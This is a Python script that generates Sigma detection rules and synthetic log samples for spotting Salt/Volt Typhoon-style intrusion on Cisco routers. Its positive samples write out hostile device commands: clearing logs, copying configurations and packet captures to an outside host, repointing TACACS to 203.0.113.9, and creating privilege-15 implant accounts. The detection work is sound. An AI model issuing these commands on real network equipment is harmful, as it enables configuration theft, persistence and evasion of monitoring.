"""Write the carrierwatch telecom Sigma pack (src/carrierwatch/rules/telecom) and its regression samples.

The YAML files are the source of truth once written; this script exists so the pack is reviewable in one place
and regenerable. Sources: CISA AA25-239A (HUNT-* ids, see docs/guidance.md#hunting), the joint
CISA/NSA/FBI hardening guidance (EVH-* ids), Cisco advisories named per rule. Samples are synthetic lines in the
real formats the readers accept (tac_plus accounting, Cisco syslog, nfdump CSV); they are ours (Apache-2.0).
"""

from __future__ import annotations

import uuid
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parents[1] / "src/carrierwatch/rules/telecom"
NS = uuid.UUID("6f1e4c52-8d0c-4b0e-9a43-2a1c0c1d7e11")
AA = "https://www.cisa.gov/news-events/cybersecurity-advisories/aa25-239a"
EVH = "https://www.cisa.gov/resources-tools/resources/enhanced-visibility-and-hardening-guidance-communications-infrastructure"
CMD = {"product": "cisco", "service": "aaa"}
SYS = {"product": "cisco", "service": "syslog"}
FLOW = {"category": "netflow", "product": "carrierwatch"}
NFHEAD = "ts,te,td,sa,da,sp,dp,pr,flg,fwd,stos,ipkt,ibyt,opkt,obyt"


def tac(*cmds: str) -> str:
    return "".join(f"Nov 16 10:00:{i:02d}\t10.0.0.1\tnetops\tvty0\t10.255.0.12\tstop\ttask_id={i}\ttimezone=UTC\t"
                   f"service=shell\tpriv-lvl=15\tcmd={c} <cr>\n" for i, c in enumerate(cmds, 1))


def sysl(*msgs: str) -> str:
    return "".join(f"Nov 16 10:00:{i:02d} pe1-nyc {1000 + i}: Nov 16 10:00:{i:02d}.000 UTC: {m}\n"
                   for i, m in enumerate(msgs, 1))


def flow(*rows: tuple[str, str, int, int, str]) -> str:
    out = NFHEAD + "\n"
    for i, (sa, da, sp, dp, pr) in enumerate(rows, 1):
        out += (f"2026-11-16 10:00:{i:02d},2026-11-16 10:00:{i + 1:02d},1.000,{sa},{da},{sp},{dp},{pr},.AP.SF,0,0,"
                f"10,1500,0,0\n")
    return out


RULES: list[dict] = [
    dict(name="cw_log_clear", title="Device logs cleared or log forwarding stopped", level="high",
         tags=["attack.defense-evasion", "attack.t1070.003", "attack.t1562.006"], refs=["HUNT-07", "EVH-V06", AA],
         ls=CMD, det={"selection": {"command|re|i": r"^(clear logging|clear log\b|clear archive|"
                                    r"no logging (host|on|trap|buffered|console|monitor|[0-9])|"
                                    r"no logging$|logging off)"}},
         pos=tac("clear logging", "no logging host 10.255.3.30", "clear archive log config"),
         neg=tac("logging host 10.255.3.30", "show logging", "logging buffered 64000")),
    dict(name="cw_guestshell", title="Guest Shell / IOx / app-hosting used", level="high",
         tags=["attack.execution", "attack.t1610", "attack.defense-evasion"], refs=["HUNT-06", "EVH-C02", AA],
         ls=CMD, det={"selection": {"command|re|i": r"^(guestshell|run guestshell|iox$|app-hosting|run bash|bash$)"}},
         pos=tac("guestshell enable", "iox", "app-hosting appid guestshell"),
         neg=tac("no iox", "show app-hosting list", "show running-config")),
    dict(name="cw_onbox_capture", title="On-box packet capture started or capture file moved", level="high",
         tags=["attack.credential-access", "attack.t1040"], refs=["HUNT-03", "EVH-V10", AA],
         ls=CMD, det={"capture": {"command|re|i": r"^(monitor capture|debug packet|tcpdump|run tcpdump)"},
                      "pcap": {"command|contains": ".pcap"}, "condition": "capture or pcap"},
         pos=tac("monitor capture tac interface Gi0/0 both", "monitor capture tac start",
                 "copy bootflash:tac.pcap ftp://203.0.113.9/"),
         neg=tac("show monitor capture", "no monitor session 1", "copy running-config startup-config")),
    dict(name="cw_aaa_repoint", title="AAA (TACACS+/RADIUS) server definition changed", level="medium",
         tags=["attack.credential-access", "attack.t1556", "attack.persistence"],
         refs=["HUNT-04", "HUNT-01", "EVH-H09", AA],
         ls=CMD, det={"direct": {"command|re|i": r"^(tacacs-server host|radius-server host|tacacs server |"
                                 r"radius server |aaa group server|server-private )"},
                      "address": {"cmd|re": r"^address ipv[46] "},
                      "in_server": {"prev_cmd|re": r"^(tacacs|radius) server "},
                      "condition": "direct or (address and in_server)"},
         pos=tac("tacacs-server host 203.0.113.9 key 7 0822455D0A16", "tacacs server EVIL",
                 "address ipv4 203.0.113.9", "server-private 203.0.113.9 key 7 0822455D0A16"),
         neg=tac("show tacacs", "aaa authorization exec default group tacacs+ local", "no ip http server",
                 "interface Loopback0", "address ipv4 10.0.0.1")),
    dict(name="cw_priv_account", title="New local account with privilege 15", level="high",
         tags=["attack.persistence", "attack.t1136.001", "attack.t1098"], refs=["HUNT-01", "EVH-H29", "EVH-H26", AA],
         ls=CMD, det={"selection": {"command|re|i": r"^username \S+ (.* )?privilege 15"}},
         pos=tac("username backup privilege 15 secret 9 $9$abc", "username ops2 view x privilege 15 password 0 x"),
         neg=tac("username netops privilege 1 secret 9 $9$abc", "show users", "no username test")),
    dict(name="cw_mgmt_acl_change", title="Management access list changed", level="medium",
         tags=["attack.defense-evasion", "attack.t1562.004"], refs=["HUNT-01", "EVH-V01", "EVH-H07", AA],
         ls=CMD, det={"selection": {"command|re|i": r"^(no )?(access-class|ip access-list|ipv6 access-list|"
                                    r"access-list [0-9]+|ipv4 access-list|permit ip any any)"}},
         pos=tac("ip access-list standard MGMT", "permit ip any any", "access-class MGMT in vrf-also"),
         neg=tac("show access-lists", "show ip access-lists MGMT")),
    dict(name="cw_tunnel_create", title="Tunnel interface created or pointed at a destination", level="medium",
         tags=["attack.command-and-control", "attack.t1572"], refs=["HUNT-05", "EVH-V09", AA],
         ls=CMD, det={"selection": {"command|re|i": r"^(interface tunnel[ -]?[0-9]+|interface tunnel-ip|"
                                    r"tunnel destination |tunnel mode gre)"}},
         pos=tac("interface Tunnel100", "tunnel destination 203.0.113.9", "tunnel mode gre ip"),
         neg=tac("show interfaces tunnel 100", "interface GigabitEthernet0/1", "no shutdown")),
    dict(name="cw_loopback_change", title="Loopback address changed", level="medium",
         tags=["attack.defense-evasion", "attack.t1599"], refs=["HUNT-01", "EVH-V01", AA],
         ls=CMD, det={"loop": {"prev_cmd|startswith": "interface loopback"},
                      "addr": {"cmd|re": r"^(ip|ipv6|ipv4) address "}, "condition": "loop and addr"},
         pos=tac("interface Loopback0", "ip address 203.0.113.77 255.255.255.255"),
         neg=tac("interface GigabitEthernet0/1", "ip address 10.1.1.1 255.255.255.0"), expected={"positive": 1}),
    dict(name="cw_mgmt_port_moved", title="SSH/HTTP server moved to a non-standard port", level="high",
         tags=["attack.command-and-control", "attack.t1571", "attack.persistence"], refs=["HUNT-02", AA],
         ls=CMD, det={"selection": {"command|re|i": r"^(ip ssh port [0-9]+|ip http port [0-9]+|ip http secure-port "
                                    r"[0-9]+|ssh server port [0-9]+|ssh server v2 port|management ssh.*port [0-9]+|"
                                    r"ip ssh port [0-9]+ rotary)"}},
         pos=tac("ip ssh port 22222 rotary 1", "ip http secure-port 18443", "ssh server port 57722"),
         neg=tac("ip ssh version 2", "ip http secure-server", "show ip ssh")),
    dict(name="cw_config_exfil", title="Configuration copied off the device", level="high",
         tags=["attack.collection", "attack.t1602.002", "attack.exfiltration", "attack.t1048.003"],
         refs=["HUNT-08", "EVH-H21", AA],
         ls=CMD, det={"selection": {"command|re|i": r"^copy (system:)?(running-config|startup-config|nvram:startup-"
                                    r"config|nvram:) +(tftp|ftp|scp|sftp|http|https|rcp):"}},
         pos=tac("copy running-config tftp://203.0.113.9/r.cfg", "copy startup-config ftp://203.0.113.9/s",
                 "copy system:running-config scp://u@203.0.113.9/x"),
         neg=tac("copy running-config startup-config", "copy tftp://10.255.3.40/ios.bin flash:")),
    dict(name="cw_implant_accounts", title="CVE-2023-20198 implant account names created or used", level="critical",
         tags=["attack.initial-access", "attack.t1190", "attack.persistence", "attack.t1136.001"],
         refs=["CVE-2023-20198", "CVE-2023-20273", "HUNT-01",
               "https://sec.cloudapps.cisco.com/security/center/content/CiscoSecurityAdvisory/"
               "cisco-sa-iosxe-webui-privesc-j22SaA4z"],
         ls=CMD, det={"selection": {"command|re|i": r"^username (cisco_tac_admin|cisco_support|cisco_sys_manager)\b"}},
         pos=tac("username cisco_tac_admin privilege 15 secret 5 $1$x",
                 "username cisco_support privilege 15 secret 0 a"),
         neg=tac("username netops privilege 15 secret 9 $9$a", "show users")),
    dict(name="cw_webui_install", title="IOS XE Web UI install operation (CVE-2023-20198/20273 implant path)",
         level="high", tags=["attack.initial-access", "attack.t1190", "attack.persistence", "attack.t1505.003"],
         refs=["CVE-2023-20273", "HUNT-01",
               "https://blog.talosintelligence.com/active-exploitation-of-cisco-ios-xe-software/"],
         ls=SYS, det={"keywords": ["%WEBUI-6-INSTALL_OPERATION_INFO"], "condition": "keywords"},
         pos=sysl("%WEBUI-6-INSTALL_OPERATION_INFO: User: cisco_support, Install Operation: ADD tmp.bin"),
         neg=sysl("%SYS-5-CONFIG_I: Configured from console by netops on vty0 (10.255.0.12)")),
    dict(name="cw_xr_sshd_operns", title="IOS XR sshd_operns started (Salt Typhoon SSH listener)", level="high",
         tags=["attack.persistence", "attack.t1021.004", "attack.t1543"], refs=["HUNT-02", AA],
         ls=SYS, det={"keywords": ["sshd_operns"], "condition": "keywords"},
         pos=sysl("%OS-SYSMGR-5-NOTICE : Card is COLD started, sshd_operns process started"),
         neg=sysl("%SECURITY-SSHD-6-INFO_SUCCESS : Successfully authenticated user 'netops' from '10.255.0.12'")),
    dict(name="cw_smart_install_outside", title="Smart Install (TCP/4786) from outside the management network",
         level="high", tags=["attack.initial-access", "attack.t1190"],
         refs=["CVE-2018-0171", "EVH-C01", "EVH-H15",
               "https://sec.cloudapps.cisco.com/security/center/content/CiscoSecurityAdvisory/cisco-sa-20180328-smi2"],
         ls=FLOW, det={"selection": {"destination_port": 4786, "network_iana_number": 6, "dst_is_device": True,
                                     # a reply from a server to a client whose ephemeral port happens to be 4786
                                     # has a well-known source port; Smart Install clients use ephemeral ones
                                     "source_port|gte": 1024},
                       "mgmt": {"src_mgmt": True}, "condition": "selection and not mgmt"},
         pos=flow(("198.51.100.7", "10.0.0.1", 40000, 4786, "TCP")),
         neg=flow(("10.255.0.12", "10.0.0.1", 40000, 4786, "TCP"), ("198.51.100.7", "10.0.0.1", 40000, 443, "TCP"),
                  ("198.51.100.7", "10.0.0.1", 443, 4786, "TCP"), ("198.51.100.7", "100.64.0.9", 40000, 4786, "TCP")),
         allow={"management_subnets": ["10.255.0.0/24"], "device_subnets": ["10.0.0.0/24"]}),
    dict(name="cw_snmp_non_nms", title="SNMP to a device from a host that is not an NMS", level="medium",
         tags=["attack.collection", "attack.t1602.001"], refs=["HUNT-09", "EVH-H10", AA],
         ls=FLOW, det={"selection": {"destination_port": [161, 162], "network_iana_number": 17,
                                     "dst_is_device": True},
                       "nms": {"src_nms": True}, "condition": "selection and not nms"},
         pos=flow(("198.51.100.7", "10.0.0.1", 40000, 161, "UDP")),
         neg=flow(("10.255.0.20", "10.0.0.1", 40000, 161, "UDP"), ("198.51.100.7", "10.0.0.1", 40000, 53, "UDP")),
         allow={"nms": ["10.255.0.20/32"], "device_subnets": ["10.0.0.0/24"]}),
]


RULES.append(dict(
    name="cw_log_forwarding_stopped", title="Logging to a syslog collector stopped", level="high",
    tags=["attack.defense-evasion", "attack.t1562.006"], refs=["HUNT-07", "EVH-V06", AA],
    ls=SYS, det={"keywords": {"|all": ["%SYS-6-LOGGINGHOST_STARTSTOP", "stopped"]}, "condition": "keywords"},
    pos=sysl("%SYS-6-LOGGINGHOST_STARTSTOP: Logging to host 10.255.3.30 port 514 stopped - CLI initiated"),
    neg=sysl("%SYS-6-LOGGINGHOST_STARTSTOP: Logging to host 10.255.3.30 port 514 started - CLI initiated")))

RULES.append(dict(
    name="cw_login_failed", title="Device login failure", level="informational",
    tags=["attack.credential-access", "attack.t1110"], refs=["EVH-V05", AA],
    ls=SYS, det={"keywords": ["%SEC_LOGIN-4-LOGIN_FAILED", "%SECURITY-SSHD-6-INFO_FAILURE", "SSHD_LOGIN_FAILED"],
                 "condition": "keywords"},
    pos=sysl("%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: admin] [Source: 198.51.100.7] [localport: 22] "
             "[Reason: Login Authentication Failed] at 10:00:01 UTC Mon Nov 16 2026"),
    neg=sysl("%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: netops] [Source: 10.255.0.12] [localport: 22] "
             "at 10:00:01 UTC Mon Nov 16 2026")))

FAIL = ("%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: admin] [Source: 198.51.100.7] [localport: 22] "
        "[Reason: Login Authentication Failed] at 10:00:01 UTC Mon Nov 16 2026")
CORRELATIONS: list[dict] = [
    dict(name="cw_login_burst", title="Burst of failed logins on one device (5 in 5 minutes)", level="medium",
         corr={"type": "event_count", "rules": ["cw_login_failed"], "group-by": ["device"], "timespan": "5m",
               "condition": {"gte": 5}},
         refs=["EVH-V05", AA], pos=sysl(*[FAIL] * 5), neg=sysl(*[FAIL] * 4), expected={"positive": 1}),
    dict(name="cw_repoint_then_capture",
         title="AAA server repointed, then an on-box capture on the same device within an hour", level="critical",
         corr={"type": "temporal_ordered", "rules": ["cw_aaa_repoint", "cw_onbox_capture"], "group-by": ["device"],
               "timespan": "1h", "generate": True},
         refs=["HUNT-03", "HUNT-04", AA],
         pos=tac("tacacs-server host 203.0.113.9 key 7 0822455D0A16", "monitor capture tac start"),
         neg=tac("monitor capture tac start", "tacacs-server host 203.0.113.9 key 7 0822455D0A16"),
         expected={"positive": 1}),
]


def main() -> None:
    for c in CORRELATIONS:
        doc = {"title": c["title"], "id": str(uuid.uuid5(NS, c["name"])), "name": c["name"],
               "status": "experimental", "description": f"{c['title']}. carrierwatch telecom pack correlation.",
               "references": c["refs"], "author": "carrierwatch", "date": "2026-11-22",
               "correlation": c["corr"], "level": c["level"]}
        (ROOT / f"{c['name']}.yml").write_text(yaml.safe_dump(doc, sort_keys=False, width=120), encoding="utf-8")
        d = ROOT / "samples" / c["name"]
        d.mkdir(parents=True, exist_ok=True)
        (d / "positive.log").write_text(c["pos"], encoding="utf-8")
        (d / "negative.log").write_text(c["neg"], encoding="utf-8")
        (d / "expected.yml").write_text(yaml.safe_dump(c["expected"]), encoding="utf-8")
    for r in RULES:
        rule = {
            "title": r["title"], "id": str(uuid.uuid5(NS, r["name"])), "name": r["name"], "status": "experimental",
            "description": f"{r['title']}. Part of the carrierwatch telecom pack (Salt/Volt Typhoon router "
                           "playbook); see the references for the advisory text behind it.",
            "references": r["refs"], "author": "carrierwatch", "date": "2026-11-22", "tags": r["tags"],
            "logsource": r["ls"], "detection": {**r["det"], **({} if "condition" in r["det"] else
                                                             {"condition": "selection"})},
            "falsepositives": ["Approved change made inside a change window"], "level": r["level"],
        }
        (ROOT / f"{r['name']}.yml").write_text(yaml.safe_dump(rule, sort_keys=False, width=120), encoding="utf-8")
        d = ROOT / "samples" / r["name"]
        d.mkdir(parents=True, exist_ok=True)
        ext = ".csv" if r["ls"] is FLOW else ".log"
        (d / f"positive{ext}").write_text(r["pos"], encoding="utf-8")
        (d / f"negative{ext}").write_text(r["neg"], encoding="utf-8")
        if "expected" in r:
            (d / "expected.yml").write_text(yaml.safe_dump(r["expected"]), encoding="utf-8")
        if "allow" in r:
            (d / "allow.toml").write_text("[allowlists]\n" + "".join(
                f'{k} = [{", ".join(repr(v) for v in vs)}]\n'.replace("'", '"') for k, vs in r["allow"].items()),
                encoding="utf-8")


if __name__ == "__main__":
    main()
